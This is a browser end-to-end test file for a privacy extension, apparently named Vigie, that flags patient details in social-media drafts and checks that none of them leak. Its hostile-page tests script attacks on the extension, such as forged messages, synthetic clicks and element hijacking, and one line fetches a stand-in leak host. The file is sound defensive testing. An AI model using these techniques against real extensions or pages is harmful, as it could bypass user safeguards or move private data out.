import type { Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { MIRROR_TAG } from '../../lib/composers/mirror-layer.ts';
import { PANEL_TAG } from '../../lib/composers/panel-host.ts';
import { CHROMIUM_ID, FIREFOX_ID } from '../../lib/kit/extension-ids.ts';
import { GOOD_REQUESTS } from '../messages/any-message.ts';
import { JOURNEY_REPLICAS, type JourneyReplica, REPLICAS } from '../replicas/replicas.ts';
import type { Bench } from './browser/bench.ts';
import { builtExtension } from './browser/built-extension.ts';
import { describeInEachBrowser } from './browser/each-browser.ts';
import { type EveryConsole, listenToConsoles } from './browser/every-console.ts';
import { type EveryRequest, listenToRequests } from './browser/every-request.ts';
import { everythingKept, journalRows } from './browser/extension-memory.ts';
import { clickIn, openPopupOver, wordsOf } from './browser/extension-page.ts';
import { pagesAt } from './browser/opened-page.ts';
import { openOtherExtension, reachFrom } from './browser/other-extension.ts';
import { pressKeys } from './browser/person.ts';
import type { TestBrowser } from './browser/test-browser.ts';
import { heardByBackground, listenAsBackground } from './browser/to-the-background.ts';
import { loadWatchful, whatThePageSees } from './browser/watchful-page.ts';

const DRAFT = 'Mme Tremblesoie, dossier 74920385, TREA 5612 1512, a refusé ses pilules';
const PASSAGES = ['Mme Tremblesoie', '74920385', 'TREA 5612 1512'];
/** Words that are nowhere in the product: wherever one stands, it came from the draft. */
const CANARY = /tremblesoie|74920385|trea\W*5612|5612\W*1512/i;

/** What Vigie thinks of a text, and by which policy: rule, concern, clause, settings, decisions. */
const THOUGHTS =
  /cisss|cote-nord|patient-|usager|article\s\d|divulguer|contexte de soins|dismissed|continued|employee/i;

const COTE_NORD = { establishment: 'cisss-cote-nord', role: 'employee', language: 'fr', journal: true };

describeInEachBrowser((open, kind) => {
  let browser: TestBrowser;
  let bench: Bench;
  let background: Page;
  let consoles: EveryConsole;
  let requests: EveryRequest;
  let origin: string;

  beforeAll(async () => {
    browser = await open({ extensionDir: builtExtension(kind) });
    await browser.setOwnSettings(COTE_NORD);
    background = await browser.openExtensionPage('options.html');
    origin = await background.evaluate(() => location.host);
    await listenAsBackground(background);
    consoles = await listenToConsoles(background, kind);
    requests = await listenToRequests(background, kind);
  });
  afterAll(() => browser.close());

  const pressInVigie = async (button: string) => bench.inVigie.click(await bench.inVigie.find('button', button));

  async function openWatchful(name: JourneyReplica): Promise<void> {
    bench = await browser.openReplica(name);
    await loadWatchful(bench.page);
    await bench.openComposer();
  }

  /** The card, a dismissal, the popup, the question at Publish: every way in which a draft is worked with. */
  async function workWithTheDraft(name: JourneyReplica): Promise<void> {
    await bench.type(DRAFT);
    await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
    await bench.clickHighlight('Mme Tremblesoie');
    await pressInVigie('Pas un problème');
    const popup = await openPopupOver(browser, 'newest');
    await expect.poll(() => wordsOf(popup)).toContain('TREA •••• ••••');
    await popup.close();
    await bench.page.bringToFront();
    await bench.clickPublish();
    await pressInVigie(name === 'facebook-comment' ? 'Commenter quand même' : 'Publier quand même');
  }

  describe.each(JOURNEY_REPLICAS)('a draft in %s', (name) => {
    let seen: string;

    beforeAll(async () => {
      await openWatchful(name);
    });
    afterAll(() => bench.close());

    it('is worked with and published', async () => {
      await workWithTheDraft(name);
      seen = await whatThePageSees(bench.page);
      await bench.clickPublish();
      await expect.poll(() => bench.published()).toEqual([DRAFT]);
    });

    it('leaves nothing in what the page can read beside the editor', async () => {
      expect(seen).toContain('popover=manual');
      for (const readable of [seen, await whatThePageSees(bench.page)]) {
        expect(readable).not.toMatch(CANARY);
        expect(JSON.parse(readable).overheard).toEqual([]);
      }
    });

    it('tells the page nothing of rule, concern, clause, settings or decision', () => {
      expect(seen).not.toMatch(THOUGHTS);
    });

    it('does not tell the page which extension reads along', async () => {
      for (const mark of ['chrome-extension', 'moz-extension', CHROMIUM_ID, FIREFOX_ID, origin]) {
        expect(seen).not.toContain(mark);
      }
    });

    it('asks nothing of any network', async () => {
      expect(bench.leakedRequests).toEqual([]);
      expect(bench.pageErrors).toEqual([]);
      expect(await requests.byExtension()).toEqual([]);
      expect((await requests.all()).filter((address) => CANARY.test(decodeURIComponent(address)))).toEqual([]);
    });
  });

  describe.each([
    { place: 'the popup', address: 'popup.html' },
    { place: 'the policy page', address: 'policy.html?establishment=cisss-cote-nord#try-text' },
  ])('a text that is tried in $place', ({ place, address }) => {
    it('is warned of as in the page, can be repaired, and asks nothing of any network', async () => {
      const page = await browser.openExtensionPage(address);
      if (place === 'the popup') await clickIn(page, 'Vérifier un texte');
      const box = await page.waitForSelector('textarea');
      await box?.type(DRAFT);
      await expect.poll(() => underlinedIn(page)).toEqual(PASSAGES);
      expect(await wordsOf(page)).toContain('Un nom dans un contexte de soins');
      await clickIn(page, 'Retirer');
      await expect.poll(() => underlinedIn(page)).not.toContain('Mme Tremblesoie');
      await pressKeys(page, 'Control+Z');
      await expect.poll(() => underlinedIn(page)).toEqual(PASSAGES);
      expect(await requests.byExtension()).toEqual([]);
      await page.close();
    });
  });

  describe('afterwards', () => {
    it('no word of the drafts was told to the background', async () => {
      const heard = await heardByBackground(background);
      expect(heard.join()).not.toMatch(CANARY);
      const types = new Set(heard.map((message) => JSON.parse(message).type));
      expect([...types].sort()).toEqual(['record-decision', 'show-count']);
    });

    it('no word of them is kept anywhere in the extension', async () => {
      expect(await everythingKept(background)).not.toMatch(CANARY);
    });

    it('the journal holds the decisions, with six facts each and no seventh', async () => {
      const rows = await journalRows(background);
      expect(new Set(rows.map(({ decision }) => decision))).toEqual(new Set(['shown', 'dismissed', 'continued']));
      for (const row of rows) {
        expect(Object.keys(row).sort()).toEqual(['clause', 'concern', 'day', 'decision', 'rule', 'surface']);
      }
    });

    it('no word of them was said on any console', async () => {
      expect((await consoles.said()).filter((line) => CANARY.test(line))).toEqual([]);
    });

    it('the ears of these tests hear', async () => {
      expect(await requests.all()).toContainEqual(expect.stringContaining(REPLICAS['facebook-post'].address));
      await background.evaluate(() => console.info('Mme', { name: 'Tremblesoie' }));
      await expect.poll(async () => (await consoles.said()).some((line) => CANARY.test(line))).toBe(true);
    });
  });

  describe('a hostile page', () => {
    afterEach(() => bench.close());

    it('cannot switch Vigie off by repeating what WXT’s content scripts say to one another', async () => {
      await openWatchful('facebook-post');
      await bench.page.evaluate(
        (ids) => {
          for (const type of ids.flatMap((id) => [
            `${id}:composer:wxt:content-script-started`,
            `${id}:wxt:content-script-started`,
          ])) {
            const detail = { contentScriptName: 'composer', messageId: 'another' };
            document.dispatchEvent(new CustomEvent(type, { detail }));
            window.dispatchEvent(new CustomEvent(type, { detail }));
            window.postMessage({ type, ...detail }, '*');
          }
        },
        [CHROMIUM_ID, FIREFOX_ID, origin],
      );
      await bench.type(DRAFT);
      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
    });

    it('cannot press « Publier quand même », nor see more of it than an empty element', async () => {
      await openWatchful('facebook-post');
      await bench.type(DRAFT);
      await bench.clickPublish();
      const go = await bench.inVigie.find('button', 'Publier quand même');
      const { x, y, width, height } = await bench.inVigie.boundingBox(go);
      const found = await bench.page.evaluate(pressByScript, x + width / 2, y + height / 2);
      expect(found).toEqual({ name: PANEL_TAG, root: null, children: 0 });
      await bench.clickPublish();
      await bench.inVigie.find('button', 'Publier quand même');
      expect(await bench.published()).toEqual([]);
    });

    it('is not handed a closed tree by an element that it defines under our names', async () => {
      bench = await browser.openReplica('facebook-post');
      await bench.page.evaluateOnNewDocument(defineOurNames, [PANEL_TAG, MIRROR_TAG]);
      await bench.page.reload();
      await bench.openComposer();
      await bench.type(DRAFT);
      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
      await bench.clickHighlight('Mme Tremblesoie');
      await bench.inVigie.find('button', 'Lire l’article');
      expect(await bench.page.evaluate(() => window.__handed.map(({ shadowRoot }) => shadowRoot))).toEqual([null]);
    });

    it('learns nothing from fonts that it names as ours would be', async () => {
      bench = await browser.openReplica('facebook-post');
      await bench.openComposer();
      await bench.type(DRAFT);
      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
      await bench.page.evaluate(defineFonts, FAMILIES);
      await bench.clickHighlight('Mme Tremblesoie');
      const read = await bench.inVigie.find('button', 'Lire l’article');
      expect((await bench.inVigie.boundingBox(read)).width).toBeGreaterThan(0);
      const asked = await bench.page.evaluate(() => [...document.fonts].filter(({ status }) => status !== 'unloaded'));
      expect(asked).toEqual([]);
    });

    it('reaches no part of the extension by whatever it sends', async () => {
      await openWatchful('facebook-post');
      const before = await heardByBackground(background);
      await bench.page.evaluate(sendEveryWay, [CHROMIUM_ID, FIREFOX_ID, origin], GOOD_REQUESTS);
      await bench.type(DRAFT);
      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
      await expect.poll(() => heardSince(before)).toEqual(['show-count']);
      expect(await pagesAt(background, '/policy.html')).toEqual([]);
    });

    it('cannot learn from a key that it makes up whether there is a warning', async () => {
      await openWatchful('facebook-post');
      await bench.type(DRAFT);
      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
      expect(await bench.page.evaluate(pressShortcutByScript)).toBe(true);
      expect(await bench.inVigie.findAll('dialog')).toEqual([]);
    });
  });

  it('another extension reaches nothing by message, nor hears an answer', async () => {
    const before = await heardByBackground(background);
    const other = await openOtherExtension(background.browser(), kind);
    const reached = await reachFrom(other, kind === 'chromium' ? CHROMIUM_ID : FIREFOX_ID, GOOD_REQUESTS);
    expect(reached.filter((outcome) => outcome.startsWith('answered'))).toEqual([]);
    expect(reached).toHaveLength(GOOD_REQUESTS.length + 2);
    expect(await heardSince(before)).toEqual([]);
    await other.close();
  });

  /** The kinds of what the background was told after that. */
  async function heardSince(before: readonly string[]): Promise<string[]> {
    const since = (await heardByBackground(background)).slice(before.length);
    return [...new Set(since.map((message) => JSON.parse(message).type))];
  }
});

describeInEachBrowser((open, kind) => {
  it(`${kind} is not closed in silence when a page reached out`, async () => {
    const browser = await open();
    const bench = await browser.openReplica('facebook-post');
    const blank = await bench.page.browser().newPage();
    await blank.evaluate(() => fetch('https://leak.example.org/?said').catch(() => {}));
    await expect(browser.close()).rejects.toThrow('https://leak.example.org/?said');
  });
});

/** What is underlined in the box for a text to try. */
function underlinedIn(page: Page): Promise<string[]> {
  return page.$$eval('u', (found) => found.map(({ textContent }) => textContent ?? ''));
}

/** Every way in which a script may press what stands at a point. */
function pressByScript(x: number, y: number): { name?: string; root?: ShadowRoot | null; children?: number } {
  const seen = document.elementFromPoint(x, y);
  const place = { bubbles: true, composed: true, cancelable: true, clientX: x, clientY: y };
  for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {
    seen?.dispatchEvent(new MouseEvent(type, place));
  }
  for (const key of ['Enter', ' ']) seen?.dispatchEvent(new KeyboardEvent('keydown', { ...place, key }));
  if (seen instanceof HTMLElement) seen.click();
  return seen === null ? {} : { name: seen.localName, root: seen.shadowRoot, children: seen.childElementCount };
}

declare global {
  interface Window {
    /** What the browser gives whoever defines an element, once for each of ours. */
    __handed: ElementInternals[];
  }
}

/** The names in components/styles/tokens.css, but for Arial, in which the replica itself is set. */
const FAMILIES = [
  'Iowan Old Style',
  'Charter',
  'Cambria',
  'Noto Serif',
  'Georgia',
  'Segoe UI',
  'Roboto',
  'Noto Sans',
  'Helvetica Neue',
];

function defineFonts(families: readonly string[]): void {
  const style = document.createElement('style');
  const faces = families.map((name) => `@font-face { font-family: "${name}"; src: url(data:font/woff2;base64,AAAA); }`);
  style.textContent = faces.join('');
  document.head.append(style);
}

function defineOurNames(names: readonly string[]): void {
  window.__handed = [];
  for (const name of names) {
    class Handed extends HTMLElement {
      constructor() {
        super();
        window.__handed.push(this.attachInternals());
      }
    }
    customElements.define(name, Handed);
  }
}

/** Every way in which a script of a page may send something to whoever listens. */
function sendEveryWay(ids: readonly string[], messages: readonly object[]): void {
  type Runtime = { sendMessage?(...told: unknown[]): unknown; connect?(...told: unknown[]): unknown };
  const apis = Object.values({ a: Reflect.get(window, 'chrome'), b: Reflect.get(window, 'browser') });
  for (const { runtime } of apis.map((api) => Object(api) as { runtime?: Runtime })) {
    for (const id of ids) for (const message of messages) runtime?.sendMessage?.(id, message);
    for (const id of ids) runtime?.connect?.(id, { name: 'vigie-popup' });
  }
  for (const detail of messages) {
    window.postMessage(detail, '*');
    for (const type of ['message', ...ids]) document.dispatchEvent(new CustomEvent(type, { detail, bubbles: true }));
    for (const name of ['vigie', ...ids]) new BroadcastChannel(name).postMessage(detail);
  }
}

/** Whether a made-up Alt+Shift+V went unheard. */
function pressShortcutByScript(): boolean {
  const pressed = { altKey: true, shiftKey: true, code: 'KeyV', key: 'V', bubbles: true, cancelable: true };
  return window.dispatchEvent(new KeyboardEvent('keydown', pressed));
}
